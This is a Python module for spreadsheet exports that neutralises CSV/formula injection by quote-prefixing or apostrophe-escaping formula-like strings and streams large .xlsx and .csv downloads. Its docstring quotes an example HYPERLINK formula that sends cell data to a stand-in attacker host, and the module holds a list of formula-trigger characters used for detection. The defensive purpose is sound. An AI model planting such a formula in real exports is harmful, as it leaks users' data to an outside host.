"""Spreadsheet exports (.xlsx and .csv) whose cells a spreadsheet program never runs as formulas.

A title typed as `=HYPERLINK("http://evil.example/?"&A1,"x")` is text that a user recorded; exported, it must
stay text (CSV injection, OWASP). Every export writes its rows through this module:

- .xlsx: every string is a string cell (openpyxl would store a leading "=" as a formula) and, when it starts
  like a formula, carries Excel's quote prefix, so editing the cell keeps it text; the value itself is unchanged;
- .csv: a string that starts like a formula gets a leading apostrophe, the convention spreadsheets read as
  "this is text" (a CSV has no cell types). Numbers, dates and booleans are written as they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

# What makes Excel, LibreOffice or WPS read a cell as a formula: OWASP's list, the full-width forms a Chinese
# input method types, and line breaks.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV cell: a string that starts like a formula gets a leading apostrophe; numbers and dates as they are."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | dt.date):
        return value
    text = str(value)
    return "'" + text if starts_formula(text) else text


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class CsvWriter:
    """csv.writer whose every cell goes through csv_cell."""

    def __init__(self, stream: _Writable, *, bom: bool = True):
        if bom:
            # Excel opens a UTF-8 CSV as UTF-8 (and shows the Chinese) only with the byte-order mark.
            stream.write("\ufeff")
        self._writer = csv.writer(stream)

    def writerow(self, values: Iterable[Any]) -> None:
        """One row, escaped."""
        self._writer.writerow([csv_cell(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Several rows, escaped."""
        for row in rows:
            self.writerow(row)


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document (with the byte-order mark) from a header and rows."""
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every string kept as text (quote-prefixed when formula-like)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if starts_formula(cell.value):
                cell.quotePrefix = True


def workbook_bytes(workbook: Any) -> bytes:
    """The workbook as .xlsx bytes."""
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --- exports that stream: memory bounded whatever the number of rows ---------------------------------------


def write_only_cells(sheet: Any, values: Iterable[Any], formats: dict[int, str] | None = None) -> list[Any]:
    """A row for a write-only worksheet: strings kept as text (quote-prefixed when formula-like), number formats
    by column index."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for i, value in enumerate(values):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
            if starts_formula(value):
                cell.quotePrefix = True
        if formats and i in formats and value is not None:
            cell.number_format = formats[i]
        row.append(cell)
    return row


def streamed_workbook(workbook: Any, filename: str) -> Any:
    """A write-only workbook sent as a file: saved to a temporary file (openpyxl keeps write-only rows on disk,
    not in memory), which is unlinked at once and streamed from its open handle."""
    import os
    import tempfile

    from django.http import FileResponse

    fd, path = tempfile.mkstemp(suffix=".xlsx", prefix="soegov-export-")
    try:
        with os.fdopen(fd, "wb") as out:
            workbook.save(out)
        handle = open(path, "rb")  # noqa: SIM115 - FileResponse closes it when the response is sent
    finally:
        os.unlink(path)
    return FileResponse(handle, as_attachment=True, filename=filename,
                        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def csv_chunks(header: Iterable[Any], rows: Iterable[Iterable[Any]], batch: int = 500) -> Iterable[str]:
    """A CSV document (with the byte-order mark) as text chunks of `batch` rows, for StreamingHttpResponse."""
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(header)
    for n, row in enumerate(rows, 1):
        writer.writerow(row)
        if n % batch == 0:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    yield out.getvalue()


def streamed_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]], filename: str) -> Any:
    """A CSV download produced row by row while it is sent."""
    from django.http import StreamingHttpResponse

    response = StreamingHttpResponse(csv_chunks(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
